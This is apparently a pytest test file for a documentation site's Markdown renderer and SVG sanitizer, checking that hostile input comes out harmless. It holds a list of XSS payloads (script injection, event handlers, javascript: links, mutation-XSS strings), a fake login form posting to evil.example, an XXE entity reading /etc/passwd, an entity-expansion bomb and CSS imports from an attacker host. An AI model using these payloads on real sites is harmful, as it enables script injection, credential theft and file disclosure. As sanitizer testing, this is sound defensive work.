"""Nothing that runs, loads from elsewhere or dresses up as the site comes through either engine."""

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from docs_hub.domain.links import LinkResolver
from docs_hub.domain.render.link_rewriting import Surroundings
from docs_hub.domain.render.renderer import Renderer
from docs_hub.domain.svg import EMPTY_SVG, safe_svg

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="a.png" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=//x">',
    '<base href="https://evil.example/">',
    "<video src=https://evil.example/v onloadstart=alert(1)></video>",
    '<a href="https://example.org" target="_blank" ping="https://evil.example">x</a>',
    '<details ontoggle=alert(1) open><summary>x</summary></details>',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)> {#x\"onmouseover=alert(1)}",
    '!!! "note\\" onclick=alert(1)"\n    x',
    ":::note[<script>alert(1)</script>]\nx\n:::",
    "| a |\n|-|\n| <script>alert(1)</script> |",
]  # fmt: skip
ALLOWED_SCHEMES = ("http://", "https://", "mailto:", "tel:", "/", "#")
FORBIDDEN = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "svg",
    "math",
    "link",
    "meta",
    "base",
    "video",
    "button",
    "textarea",
}


def assert_harmless(html: str, pictures: str = "/x/") -> None:
    body = lxml.html.fragment_fromstring(html, create_parent="div")
    for element in body.iter():
        assert isinstance(element.tag, str), "a comment came through"
        assert element.tag not in FORBIDDEN
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert name not in ("style", "srcdoc", "srcset", "formaction", "action", "ping", "target")
            if name == "href":
                assert value.startswith(ALLOWED_SCHEMES), value
            if name == "src":
                assert value.startswith(pictures), value


def rendered(text: str, dialect: str) -> str:
    around = Surroundings(LinkResolver(["index.md"], ["a.png"]), lambda target: f"/x/{target.path}")
    return Renderer(dialect).render(text, path="index.md", around=around).document.html


@pytest.mark.parametrize("dialect", ["mkdocs", "gfm", "discourse"])
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless(text: str, dialect: str) -> None:
    assert_harmless(rendered(text, dialect))
    assert_harmless(rendered(f"Before\n\n{text}\n\nafter", dialect))


@settings(deadline=None)
@given(
    st.lists(st.sampled_from([*HOSTILE, "<", ">", '"', "\n", "`", "<!--", "-->", "<p>", "</div>"]), max_size=6).map(
        "".join
    )
)
def test_no_mixture_of_hostile_texts_comes_through(text: str) -> None:
    assert_harmless(rendered(text, "gfm"))


def test_classes_of_the_site_cannot_be_borrowed() -> None:
    assert "button" not in rendered('<a class="button site-head" href="https://example.org">Sign in</a>', "gfm")


def test_a_drawing_keeps_its_shapes_and_loses_what_runs() -> None:
    drawing = (
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>x()</script>'
        b'<a href="javascript:x()"><rect width="1"/></a>'
        b"<foreignObject><body/></foreignObject></svg>"
    )
    cleaned = safe_svg(drawing)
    assert b"rect" in cleaned
    for word in (b"onload", b"script", b"foreignObject"):
        assert word not in cleaned
    assert safe_svg(b"<svg") == b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    assert b"root:" not in safe_svg(b'<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg>&e;</svg>')


def test_a_drawing_keeps_what_it_draws_with_and_nothing_that_runs() -> None:
    bomb = b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">%s]><svg>&z;</svg>' % b"".join(
        b'<!ENTITY %c "%s">' % (b, b"&%c;" % (b - 1) * 40) for b in range(ord("b"), ord("z") + 1)
    )
    own = b'<!DOCTYPE svg [<!ENTITY ns "urn:x">]><svg xmlns:i="&ns;"><g id="k"/><use href="#k"/></svg>'
    away = b'<svg><use href="https://evil.example/x.svg#k"/></svg>'
    assert b'<use href="#k"/>' in safe_svg(own)
    assert b'"urn:x"' in safe_svg(own)
    assert b"evil" not in safe_svg(away)
    for hostile in (b"<script>alert(1)</script>", b'<html xmlns="http://www.w3.org/1999/xhtml"/>', bomb, b"", b"<svg"):
        assert safe_svg(hostile) == EMPTY_SVG


def test_a_drawing_asks_no_other_host() -> None:
    drawing = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml">
      <style>rect { fill: url(#own); }</style><style>@import "//evil.example";</style><style>a { mask: \\75 rl(//evil.example) }</style>
      <h:img src="https://evil.example/x"/><rect fill="url(#own)" mask="url(//evil.example#m)" style="cursor:URL( 'x' )"/></svg>"""
    cleaned = safe_svg(drawing.encode()).decode()
    assert "evil" not in cleaned
    assert "cursor" not in cleaned
    assert "rect { fill: url(#own); }" in cleaned
    assert 'fill="url(#own)"' in cleaned


def test_what_follows_an_embedded_thing_is_still_read() -> None:
    html = rendered("One <embed src='https://example.org/x'> two **three**.\n\nFour <embed src='x'>five.\n", "gfm")
    text = lxml.html.fromstring(f"<div>{html}</div>").text_content()
    assert " ".join(text.split()) == "One two three. Four five."


def test_a_style_is_read_as_browsers_read_it() -> None:
    split = b'<svg xmlns="http://www.w3.org/2000/svg"><style>@im<title>z</title>port "https://evil.example/a.css";</style></svg>'
    noted = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>@im<!-- z -->port "https://evil.example/a.css";</style></svg>'
    )
    plain = b'<svg xmlns="http://www.w3.org/2000/svg"><style><!-- ours -->path { fill: teal }</style></svg>'
    assert b"evil" not in safe_svg(split) + safe_svg(noted)
    assert b"teal" in safe_svg(plain)
